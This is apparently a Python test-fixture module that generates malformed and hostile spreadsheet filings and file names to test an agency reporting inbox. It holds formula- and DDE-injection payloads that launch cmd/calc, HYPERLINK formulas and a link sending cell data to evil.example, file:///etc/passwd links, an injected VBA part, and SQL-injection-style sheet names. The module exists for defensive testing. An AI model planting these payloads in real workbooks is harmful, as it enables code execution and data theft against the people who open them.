"""Hostile filings: files that lie about what they are, and issued workbooks with something typed or hidden in them."""

from __future__ import annotations

import io
import random
import re
from collections.abc import Callable, Iterable
from functools import cache
from xml.sax.saxutils import escape

import openpyxl

from tests.hostile import LAST_CELL, Make, ods
from tests.offices import issued, zipped
from tests.packing import mail
from tests.workbooks import MAIN, Parts, changed, ole, packed, row, unpacked, workbook


@cache
def good(code: str) -> bytes:
    """An issued workbook of this agency, filled in well."""
    return issued({"单位": code})


def kinds() -> dict[str, bytes]:
    """Something of every kind, none of it a filing."""
    html = "<html><meta charset='utf-8'><table><tr><td>1</td></tr></table></html>"
    office = "urn:schemas-microsoft-com:office:spreadsheet"
    xml = f'<?xml version="1.0"?><Workbook xmlns="{office}"><Worksheet/></Workbook>'
    return {
        "workbook": workbook(),
        "ods": ods(""),
        "old": ole("Workbook"),
        "document": ole("WordDocument"),
        "locked": ole("EncryptedPackage", "EncryptionInfo"),
        "word": packed({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}),
        "archive": zipped({"a.txt": b"x"}),
        "mail": mail().as_bytes(),
        "csv": "\ufeff序号,单位\n1,甲\n".encode(),
        "gbk": "序号,单位\n1,甲\n".encode("gb18030"),
        "page": html.encode(),
        "table": xml.encode(),
        "pdf": b"%PDF-1.4\n" + b"0" * 500,
        "picture": b"\x89PNG\r\n\x1a\n" + bytes(99),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(99),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(99),
        "rtf": b"{\\rtf1 x}",
        "zeros": bytes(10_000),
        "noise": random.Random(1).randbytes(5000),
        "nothing": b"",
        "half": workbook()[:300],
        "no end": good("030")[:-30],
        "junk before": b"JUNK" * 10 + good("030"),
        "in a folder": packed({f"dir/{name}": data for name, data in unpacked(workbook()).items()}),
        "bare": packed(dict.fromkeys(("a.xml", "xl/workbook.bin"), b"\xff")),
    }


EXTENSIONS = (".xlsx", ".xls", ".et", ".ods", ".xlsb", ".csv", ".zip", ".eml", ".pdf")


SLOW = {"document": (".xlsx", ".csv", ".eml")}
"""What takes seconds to read is not tried under every name."""


def wrong_containers() -> dict[str, Make]:
    """Every kind under every extension; what is added behind keeps them apart."""
    return {
        f"this is a {kind}{end}": lambda content=content, end=end: content + (end.encode() if content else b"")  # type: ignore[misc]
        for kind, content in kinds().items()
        for end in SLOW.get(kind, EXTENSIONS)
    }


TEXTS = (
    *("=cmd|'/c calc'!A0", "@SUM(1,1)", "+1+1", "-2+3", "\t=1+1", "\r=1", "＝1+1", "＝cmd", "'=1+1", "{=1+1}"),
    *(
        '=HYPERLINK("http://evil.example/x?"&A1,"点")',
        '=DDE("cmd","/c calc","1")',
        "http://evil.example/x",
        "file:///etc",
    ),
    *("mailto:a@evil.example", "internal:表!A1", "external:c.xlsx", "[1]表!A1", "１７", "17件", "—", "/", "无", "-5"),
    *(
        "1,234",
        "1，234",
        "12.0",
        "１２３．５",
        "5%",
        "约20",
        "20余",
        "２０２６年１１月２０日",
        "\u200b17",
        "17\xa0",
        "O0",
        "NaN",
    ),
    *(
        "inf",
        "-inf",
        "1e5",
        "1e999",
        "0x11",
        "#REF!",
        "#N/A",
        "TRUE",
        "½",
        "①",
        "一百",
        "壹佰",
        "1\n2",
        "²",
        "٣",
        "17(其中3)",
    ),
    *("_x0000_", "_x0041_", "_xD800_", "_xDFFF_x", "_xFFFE_", "\u202e71", "a\u0301" * 99, "😀" * 99),
    *("9" * 32_767, "1," * 16_000, " " * 32_767, "(" * 32_767, "1 " * 16_000, "约" * 32_767, "0." + "0" * 32_000 + "1"),
)
"""What may stand where a number should."""


def typed_over(content: bytes, texts: Iterable[str]) -> bytes:
    """The filing with these texts in the cells of the big table, as inline texts that no program has tidied."""
    left = iter(texts)

    def change(data: bytes) -> bytes:
        return NUMBER.sub(lambda found: as_text(found[1], next(left, None)) or found[0], data)

    return changed(content, "xl/worksheets/sheet3.xml", change)


NUMBER = re.compile(rb'<c r="([D-J]\d+)" s="\d+"(?: t="n")?><v>\d+</v></c>')


def as_text(place: bytes, text: str | None) -> bytes:
    if text is None:
        return b""
    raw = escape(text, {"\t": "&#9;", "\r": "&#13;", "\n": "&#10;"})
    return f'<c r="{place.decode()}" t="inlineStr"><is><t xml:space="preserve">{raw}</t></is></c>'.encode()


def edited(code: str, edit: Callable[[openpyxl.Workbook], object]) -> bytes:
    book, saved = openpyxl.load_workbook(io.BytesIO(good(code))), io.BytesIO()
    edit(book)
    book.save(saved)
    return saved.getvalue()


def with_formula(code: str, formula: str) -> bytes:
    """The filing with a formula without a result in one of its cells."""
    return edited(code, lambda book: book["表三"].__setitem__("D9", formula))


def covered_in_links(book: openpyxl.Workbook) -> None:
    sheet = book["表三"]
    sheet["D9"].hyperlink = "http://evil.example/x"
    sheet["D10"].hyperlink = "file:///etc/passwd"
    sheet["D11"] = "='[1]外部'!A1"
    sheet["D12"] = '=HYPERLINK("http://evil.example","点")'


def with_foreign_parts(code: str) -> bytes:
    """A filing that brings macros and links to other workbooks along."""
    parts: Parts = unpacked(good(code))
    parts["xl/vbaProject.bin"] = ole("VBA")
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
    )
    parts["xl/connections.xml"] = b"<connections/>"
    return packed(parts)


def near_labels() -> bytes:
    """A filing with many thousand texts that are almost labels of the form."""
    label = "本机关不掌握相关政府信息"
    rows = (
        row(f'<c r="L{n}" t="inlineStr"><is><t>{label[: n % 12]}{n}{label[n % 12 :]}</t></is></c>', number=n)
        for n in range(200, 20_200)
    )
    return changed(
        good("024"),
        "xl/worksheets/sheet3.xml",
        lambda data: data.replace(b"</sheetData>", "".join(rows).encode() + b"</sheetData>"),
    )


def hidden(book: openpyxl.Workbook) -> None:
    sheet = book["表三"]
    sheet.row_dimensions[10].hidden = True
    sheet.row_dimensions[11].height = 0
    sheet.column_dimensions["E"].hidden = True
    sheet.auto_filter.ref = "A8:J33"


def chart_first(book: openpyxl.Workbook) -> None:
    book.create_chartsheet("图", 0)
    book["表四"].sheet_state = "veryHidden"


def named_badly(book: openpyxl.Workbook) -> None:
    book["表二"].title = "=1+1 @SUM(1)"
    book["表四"].title = '\'; DROP--&R&"x"'
    del book["_identity"]


def filings() -> dict[str, Make]:
    """Filings of real agencies of the roster with something hostile in them."""
    return {
        "texts.xlsx": lambda: typed_over(good("023"), TEXTS),
        "texts again.xlsx": lambda: typed_over(good("024"), [f"=CMD({n})&http://evil.example/{n}" for n in range(175)]),
        "links.xlsx": lambda: edited("025", covered_in_links),
        "foreign parts.xlsm": lambda: with_foreign_parts("024"),
        "sum of everything.xlsx": lambda: with_formula("026", f"=SUM(A1:{LAST_CELL})"),
        "sum of itself.xlsx": lambda: with_formula("026", "=SUM(D9:D9)+D9"),
        "brackets.xlsx": lambda: with_formula("027", f"={'(' * 2000}1{')' * 2000}"),
        "long sum.xlsx": lambda: with_formula("027", "=1" + "+1" * 3900),
        "sums.xlsx": lambda: with_formula("028", "=" + "+".join([f"SUM(A1:{LAST_CELL})"] * 300)),
        "near labels.xlsx": near_labels,
        "hidden.xlsx": lambda: edited("028", hidden),
        "chart first.xlsx": lambda: edited("029", chart_first),
        "sheet names.xlsx": lambda: edited("029", named_badly),
        "cover.xlsx": lambda: edited("030", on_the_cover),
    }


def on_the_cover(book: openpyxl.Workbook) -> None:
    """A name that is a formula to spreadsheet programs, and nothing else that says whose file this is."""
    del book["_identity"]
    for line in book["封面"].iter_rows():
        for found in line:
            if isinstance(found.value, str) and "北关" in found.value:
                found.value, found.data_type = '=HYPERLINK("http://evil.example")&北关\u202e', "s"


def names() -> list[str | bytes]:
    """File names that are formulas, links or half a character; what else a name may be is in test_inbox."""
    return [
        *(
            "=HYPERLINK(1).xlsx",
            "@SUM(1).xlsx",
            "＝cmd.xlsx",
            "{=1+1}.xlsx",
            "\t=1+1.xlsx",
            "+1.xlsx",
            "http:evil.xlsx",
        ),
        *("报表(1).xlsx", "报表 - 副本.xlsx", "<f>1<f>.xlsx", "&quot;.xlsx", "'!A1.xlsx", "é" * 120 + ".xlsx"),
        *("x.xlsx.part", "x.crdownload", "~$x.xlsx", ".~x.et", "Thumbs.db", "%00.xlsx", "a\u0085b\u2028c.xlsx"),
        *(b"\xed\xa0\x80.xlsx", b"\xed\xbf\xbf.xlsx", b"\xc0\xaf.xlsx", "统计\u202e.xlsx".encode()),
    ]
